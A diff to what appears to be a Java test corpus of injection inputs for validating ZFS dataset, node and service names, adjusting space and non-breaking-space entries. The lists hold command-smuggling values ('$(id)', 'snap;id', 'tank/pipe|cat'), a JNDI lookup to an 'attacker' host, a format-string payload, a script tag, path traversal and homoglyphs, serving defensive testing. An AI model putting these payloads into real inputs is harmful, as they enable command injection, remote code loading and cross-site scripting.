@@ -25,7 +25,7 @@ public final class InjectionCorpus {
           "tank/carriage\rreturn",
           "tank/../etc",
           "tank/./here",
-          "tank/with space",
+          "tank/no-break\u00a0space",
           "tank/percent%s",
           "tank/pipe|cat",
           "tank/amp&bg",
@@ -60,7 +60,7 @@ public final class InjectionCorpus {
           "snap;id",
           "$(id)",
           "`id`",
-          "a b",
+          "a\u00a0b",
           "..",
           "new\nline",
           "x@y",
@@ -172,6 +172,8 @@ public final class InjectionCorpus {
             "${jndi:ldap://attacker/x}",
             "%s%s%s%n",
             "<script>alert(1)</script>",
+            // A space is legal in ZFS names (OpenZFS), never in a node or service name.
+            "tank/with space",
             "node-a\u0000",
             "n\u043ede-a", // Cyrillic o
             "ｎｏｄｅ", // fullwidth letters
